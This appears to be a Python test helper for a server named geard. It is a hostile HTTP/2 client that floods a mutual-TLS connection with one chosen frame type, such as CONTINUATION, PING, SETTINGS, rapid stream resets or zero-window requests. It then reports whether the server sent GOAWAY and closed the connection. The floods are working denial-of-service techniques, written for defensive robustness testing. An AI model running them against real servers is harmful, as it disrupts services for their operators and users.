#!/usr/bin/env python3
"""A hostile HTTP/2 client (stdlib only), for geard's tests: opens a TLS connection with a client certificate,
speaks just enough HTTP/2 to start, then floods one kind of frame for SECONDS, and keeps sending after the server's
GOAWAY, as abusive clients do. Prints one JSON line: what the server sent back (GOAWAY and its error code), whether
and when it closed the connection, and how many bytes the client got to send.

usage: h2-flood.py HOST PORT CA CERT KEY ATTACK SECONDS
ATTACK: continuation, ping, settings, rst, window-update, priority, empty-data, streams, zero-window
"""
import json, socket, ssl, struct, sys, time

host, port, ca, cert, key, attack, seconds = sys.argv[1], int(sys.argv[2]), *sys.argv[3:6], sys.argv[6], float(sys.argv[7])

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(path="/node"):
    # HPACK: indexed :method GET (2), :scheme https (7), literal :path without indexing (4 + len), :authority literal.
    block = bytes([0x82, 0x87, 0x04, len(path)]) + path.encode() + bytes([0x01, len(host)]) + host.encode()
    return block


context = ssl.create_default_context(cafile=ca)
context.check_hostname = False
context.load_cert_chain(cert, key)
context.set_alpn_protocols(["h2"])
raw = socket.create_connection((host, port), timeout=10)
sock = context.wrap_socket(raw, server_hostname=host)
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
settings = b""
if attack == "zero-window":
    settings = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0: the server may send no DATA
sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
sock.setblocking(False)

received = b""
goaway = None
closed_at = None
sent = 0
start = time.time()
stream = 1
goaway_at = None


def read_available():
    global received, goaway, closed_at, goaway_at
    while True:
        try:
            chunk = sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except (ConnectionResetError, ssl.SSLError, OSError):
            closed_at = closed_at or time.time()
            return
        if not chunk:
            closed_at = closed_at or time.time()
            return
        received += chunk
        while len(received) >= 9:
            length = int.from_bytes(received[:3], "big")
            if len(received) < 9 + length:
                break
            kind, payload = received[3], received[9:9 + length]
            received = received[9 + length:]
            if kind == GOAWAY and goaway is None:
                goaway = struct.unpack(">I", payload[4:8])[0]
                goaway_at = time.time()


def send(data):
    global sent, closed_at
    try:
        sock.sendall(data)
        sent += len(data)
    except (ssl.SSLWantWriteError, BlockingIOError):
        time.sleep(0.001)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        closed_at = closed_at or time.time()


if attack == "continuation":
    send(frame(HEADERS, 0, 1, header_block()))
while time.time() - start < seconds and closed_at is None:
    if attack == "continuation":
        batch = frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 200) * 16
    elif attack == "ping":
        batch = frame(PING, 0, 0, b"12345678") * 256
    elif attack == "settings":
        batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 256
    elif attack == "rst":
        batch = b""
        for _ in range(64):
            batch += frame(HEADERS, END_HEADERS, stream, header_block()) + frame(RST, 0, stream, struct.pack(">I", 8))
            stream += 2
    elif attack == "window-update":
        batch = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 256
    elif attack == "priority":
        batch = frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)) * 256
    elif attack == "empty-data":
        if stream == 1:
            send(frame(HEADERS, END_HEADERS, 1, bytes([0x83, 0x87, 0x04, 6]) + b"/nodez" + bytes([0x01, len(host)]) + host.encode()))
            stream = 3
        batch = frame(DATA, 0, 1, b"") * 256
    elif attack == "streams":
        batch = b""
        for _ in range(64):
            batch += frame(HEADERS, END_HEADERS, stream, bytes([0x83, 0x87, 0x04, 6]) + b"/nodez" + bytes([0x01, len(host)]) + host.encode())
            stream += 2
    elif attack == "zero-window":
        batch = b""
        for _ in range(16):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, header_block("/openapi.json"))
            stream += 2
        if stream > 2000:
            batch = b""
            time.sleep(0.01)
    else:
        sys.exit(f"unknown attack {attack}")
    if batch:
        send(batch)
    read_available()
# After the flood: does the server close within a while, whatever the client does?
deadline = time.time() + 3
while closed_at is None and time.time() < deadline:
    read_available()
    time.sleep(0.01)
print(json.dumps({
    "attack": attack, "sentBytes": sent, "goaway": goaway,
    "goawayAfter": round(goaway_at - start, 3) if goaway_at else None,
    "closedAfter": round(closed_at - start, 3) if closed_at else None,
    "closedAfterGoaway": round(closed_at - goaway_at, 3) if closed_at and goaway_at else None,
}))
